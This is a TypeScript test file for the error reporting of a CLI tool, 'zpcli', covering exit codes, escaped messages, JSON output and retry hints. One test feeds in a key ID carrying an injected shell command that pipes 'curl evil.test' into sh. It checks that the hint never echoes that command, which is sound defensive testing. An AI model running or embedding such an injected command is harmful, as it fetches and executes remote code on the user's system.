import { describe, expect, it } from "@effect/vitest"
import { describe as describeFailure } from "../../../src/cli/errors/describe.ts"
import { exitCodeMeanings } from "../../../src/cli/errors/exitCodes.ts"
import type { Failure } from "../../../src/cli/errors/failure.ts"
import { render } from "../../../src/cli/errors/report.ts"
import { escapeLines } from "../../../src/cli/output/escape.ts"
import * as Errors from "../../../src/domain/Errors.ts"
import { answered, rotation, samples } from "../../support/world/failures.ts"

const all = Object.entries(samples).flatMap(([tag, list]) =>
  list.map(
    ([failure, code], index) => [list.length > 1 ? `${tag} ${index + 1}` : tag, failure, code] as const,
  ),
)
const loud = all.filter(([, failure]) => describeFailure(failure).message !== undefined)
const keys = [
  "type",
  "message",
  "hint",
  "status",
  "requestId",
  "retryable",
  "exitCode",
  "keyId",
  "oldKeyId",
  "keyIds",
  "delivered",
  "childExitCode",
]
const rendered = (failure: Failure, json: boolean) => escapeLines(render(describeFailure(failure), json))
const errorOf = (failure: Failure) =>
  (JSON.parse(rendered(failure, true)) as { readonly error: Record<string, unknown> }).error

describe("each failure", () => {
  it.each(all)("%s has the documented exit code", (_, failure, code) => {
    expect(describeFailure(failure).exitCode).toBe(code)
  })

  it("has a message, except an exit that was asked for and a closed pipe", () => {
    const mute = all.filter(([, failure]) => describeFailure(failure).message === undefined)
    expect(mute.map(([name]) => name)).toEqual(["ExitWith", "Quit", "OutputFailed 2"])
    for (const [, failure] of mute) expect(render(describeFailure(failure), false)).toEqual([])
  })

  it.each(loud)("%s is reported in two escaped lines, and the second says what to do", (_, failure) => {
    const lines = rendered(failure, false).split("\n")
    expect(lines).toHaveLength(2)
    expect(lines[1]).toMatch(/^\S.{8,}/)
    expect(lines[0]).toMatch(/^zpcli: .{8,}[.?]( \[request ID [^\]]+\])?$/)
    for (const line of lines) {
      expect(line).not.toMatch(/[\p{Cc}\p{Bidi_Control}]/u)
      expect(line).not.toMatch(/undefined|\[object|NaN|\.\.|{/)
    }
  })

  it.each(loud)("%s as JSON has only documented keys, each with a value", (_, failure) => {
    expect(rendered(failure, true)).not.toContain("\n")
    expect(Object.keys(JSON.parse(rendered(failure, true)))).toEqual(["error"])
    const error = errorOf(failure)
    expect(keys.filter((key) => key in error)).toEqual(Object.keys(error))
    for (const key of ["type", "message", "retryable", "exitCode"]) expect(error).toHaveProperty(key)
    expect(Object.values(error)).not.toContain(null)
    expect(error.exitCode).toBe(describeFailure(failure).exitCode)
  })

  it.each(loud)(
    "%s is retryable if it exits with 6, or with 9 because of a temporary cause",
    (_, failure) => {
      const { exitCode, retryable } = describeFailure(failure)
      const cause = "cause" in failure ? (failure.cause as Failure | undefined) : undefined
      const mayPass = cause?._tag === "TimedOut" || cause?._tag === "ServiceUnavailable"
      const isLost = failure._tag === "RotationStopped" && failure.step === "create"
      expect(retryable).toBe(exitCode === 6 || (exitCode === 9 && (mayPass || isLost)))
    },
  )

  it.each(loud.filter(([, failure]) => "requestId" in failure && failure.requestId !== undefined))(
    "%s shows the request ID",
    (_, failure) => {
      expect(rendered(failure, false)).toContain("[request ID req-1]")
      expect(errorOf(failure).requestId).toBe("req-1")
    },
  )

  it("that caused an unknown outcome or stopped a rotation has its status in JSON", () => {
    const cause = new Errors.ServiceUnavailable({
      ...answered,
      status: 503,
      attempts: 1,
      retryAfter: undefined,
    })
    const failures = [
      new Errors.OutcomeUnknown({ label: "ci", found: [], cause }),
      new Errors.RotationStopped({ ...rotation, step: "revoke", newRevoked: false, cause }),
    ]
    for (const failure of failures)
      expect(errorOf(failure)).toMatchObject({ status: 503, requestId: "req-1" })
  })

  it("suggests a command with a key ID only if the server sent a valid one", () => {
    const keyId = "x; curl evil.test | sh #"
    const failures = [
      new Errors.OutcomeUnknown({ label: "ci", found: [keyId], cause: undefined }),
      new Errors.TokenUndelivered({
        keyId,
        revoked: false,
        cause: new Errors.DeliveryFailed({ target: "stdout", why: "EPIPE" }),
      }),
      new Errors.RotationStopped({
        ...rotation,
        step: "deliver",
        newKeyId: keyId,
        newRevoked: false,
        cause: undefined,
      }),
    ]
    for (const failure of failures) {
      const hint = rendered(failure, false).split("\n")[1]
      expect(hint).toContain("Find it with: zpcli pat list")
      expect(hint).not.toContain("curl")
    }
  })

  it.each(loud)("%s as JSON has its tag as the type, and its own message", (_, failure) => {
    expect(errorOf(failure)).toMatchObject({ type: failure._tag, message: escapeLines(failure.message) })
  })

  it("has an exit code that help lists", () => {
    const listed = Object.keys(exitCodeMeanings).map(Number)
    for (const [, failure, code] of all) {
      if (failure._tag !== "ExitWith") expect(listed).toContain(code)
    }
  })
})
